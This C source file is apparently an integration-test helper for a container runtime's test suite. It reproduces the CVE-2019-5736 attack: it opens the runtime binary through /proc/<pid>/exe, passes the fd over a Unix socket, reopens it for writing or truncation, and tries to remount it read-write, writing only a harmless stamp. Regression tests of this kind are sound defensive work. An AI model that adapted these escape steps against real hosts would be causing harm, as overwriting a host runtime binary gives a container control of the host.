/* hostbin: what a process in a container can do to the runtime's binary
 * through /proc/<pid>/exe (CVE-2019-5736), for tests/integration/exeseal.bats.
 * Runs inside the busybox rootfs, so it is linked statically.
 *
 *   hostbin grab SOCK PATH   open PATH (/proc/1/exe: the shim) O_PATH, try
 *                            to open it for writing at once, then send the
 *                            O_PATH fd over the AF_UNIX socket SOCK
 *   hostbin keep SOCK GO     listen on SOCK, take one fd, wait until the file
 *                            GO exists, then attack the file through the fd
 *   hostbin catch GO         watch /proc for a process whose exe is neither
 *                            busybox nor this program (an `rlite exec` on
 *                            its way in), keep an O_PATH fd to that exe,
 *                            print the process's comm, wait until GO
 *                            exists, then attack the exe
 *
 * "Attack" is what a container can do once no rlite runs, so that nothing
 * executes the file any more (no ETXTBSY): reopen the fd through
 * /proc/self/fd/N for writing, truncate it, and, for a container with
 * CAP_SYS_ADMIN, try to clear the read-only flag of the mount the fd is on.
 * Each attempt prints one line "WHAT: RESULT", RESULT being "ok" or
 * strerror(errno); a reopen that succeeds appends a line to the file and
 * prints "WROTE", so the test sees the file changed.  Output is line
 * buffered: the test reads it from a file while this runs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const char stamp[] = "hostbin was here\n";

static int result(const char *what, int rc)
{
	printf("%s: %s\n", what, rc < 0 ? strerror(errno) : "ok");
	return rc;
}

static _Noreturn void die(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	exit(1);
}

static void sleep_ms(long ms)
{
	struct timespec ts = {.tv_sec = ms / 1000, .tv_nsec = (ms % 1000) * 1000000L};

	nanosleep(&ts, NULL);
}

/* Waits (at most 10 minutes: the test's guard ends it sooner) until path exists. */
static void wait_for(const char *path)
{
	struct stat st;

	for (int i = 0; i < 12000 && stat(path, &st) < 0; i++)
		sleep_ms(50);
}

static struct sockaddr_un sock_addr(const char *path)
{
	struct sockaddr_un a = {.sun_family = AF_UNIX};

	if (strlen(path) >= sizeof(a.sun_path)) {
		printf("%s: socket path too long\n", path);
		exit(1);
	}
	strcpy(a.sun_path, path);
	return a;
}

static void send_fd(const char *path, int fd)
{
	struct sockaddr_un a = sock_addr(path);
	char byte = 'x', cbuf[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		die("connect");
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	if (sendmsg(s, &m, 0) != 1)
		die("sendmsg");
	close(s);
	printf("sent\n");
}

static int recv_fd(const char *path)
{
	struct sockaddr_un a = sock_addr(path);
	char byte, cbuf[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c;
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), conn, fd;

	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0 || listen(s, 1) < 0)
		die("listen");
	printf("listening\n");
	conn = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	if (conn < 0)
		die("accept");
	if (recvmsg(conn, &m, MSG_CMSG_CLOEXEC) != 1)
		die("recvmsg");
	c = CMSG_FIRSTHDR(&m);
	if (!c || c->cmsg_type != SCM_RIGHTS) {
		printf("recvmsg: no fd\n");
		exit(1);
	}
	memcpy(&fd, CMSG_DATA(c), sizeof(int));
	close(conn);
	close(s);
	printf("received\n");
	return fd;
}

/* Opens path for writing with flags; on success writes the stamp. */
static void try_write(const char *what, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	result(what, fd);
	if (fd < 0)
		return;
	if (write(fd, stamp, sizeof(stamp) - 1) == (ssize_t)sizeof(stamp) - 1)
		printf("WROTE\n");
	else
		result("write", -1);
	close(fd);
}

static void attack(int fd)
{
	struct mount_attr rw = {.attr_clr = MOUNT_ATTR_RDONLY};
	char self[64];

	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	try_write("reopen for append", self, O_WRONLY | O_APPEND);
	try_write("reopen with truncate", self, O_WRONLY | O_TRUNC);
	result("mount_setattr read-write", mount_setattr(fd, "", AT_EMPTY_PATH, &rw, sizeof(rw)));
	result("remount read-write", mount(NULL, self, NULL, MS_REMOUNT | MS_BIND, NULL));
	try_write("reopen for append again", self, O_WRONLY | O_APPEND);
	printf("done\n");
}

static int grab(const char *sock, const char *path)
{
	char what[512];
	int fd = open(path, O_PATH | O_CLOEXEC);

	snprintf(what, sizeof(what), "open %s", path);
	if (result(what, fd) < 0)
		return 0;
	snprintf(what, sizeof(what), "open %s for append", path);
	try_write(what, path, O_WRONLY | O_APPEND);
	send_fd(sock, fd);
	return 0;
}

static int keep(const char *sock, const char *go)
{
	int fd = recv_fd(sock);

	wait_for(go);
	attack(fd);
	return 0;
}

static int same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* The name ps shows for the process, or "?". */
static const char *comm_of(const char *pid)
{
	static char name[64];
	char p[300];
	FILE *f;

	snprintf(p, sizeof(p), "/proc/%s/comm", pid);
	f = fopen(p, "re");
	if (!f || !fgets(name, sizeof(name), f))
		snprintf(name, sizeof(name), "?");
	if (f)
		fclose(f);
	name[strcspn(name, "\n")] = '\0';
	return name;
}

/* One pass over /proc: an fd to the first exe that is not ours or
 * busybox's, or -1.  Prints "denied PID" once for each process whose exe
 * it may not open (non-dumpable, to one without CAP_SYS_PTRACE). */
static int scan(const struct stat *mine, const struct stat *bb, long *denied)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;

	if (!d)
		die("opendir /proc");
	while (found < 0 && (e = readdir(d))) {
		char p[300];
		struct stat st;
		int fd;

		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(p, sizeof(p), "/proc/%s/exe", e->d_name);
		fd = open(p, O_PATH | O_CLOEXEC);
		if (fd < 0) {
			if (errno == EACCES && atol(e->d_name) != *denied) {
				*denied = atol(e->d_name);
				printf("denied %ld\n", *denied);
			}
			continue;
		}
		if (fstat(fd, &st) == 0 && !same_file(&st, mine) && !same_file(&st, bb)) {
			printf("caught %s, comm %s\n", p, comm_of(e->d_name));
			found = fd;
		} else {
			close(fd);
		}
	}
	closedir(d);
	return found;
}

static int catch (const char *go)
{
	struct stat mine, bb;
	long denied = 0;
	int fd = -1;

	if (stat("/proc/self/exe", &mine) < 0 || stat("/bin/busybox", &bb) < 0)
		die("stat");
	printf("watching\n");
	while (fd < 0) {
		struct stat st;

		fd = scan(&mine, &bb, &denied);
		if (fd < 0 && stat(go, &st) == 0) {
			printf("caught nothing\ndone\n");
			return 0;
		}
	}
	wait_for(go);
	attack(fd);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "grab") == 0)
		return grab(argv[2], argv[3]);
	if (argc == 4 && strcmp(argv[1], "keep") == 0)
		return keep(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "catch") == 0)
		return catch (argv[2]);
	fprintf(stderr, "usage: hostbin grab SOCK PATH | keep SOCK GO | catch GO\n");
	return 2;
}
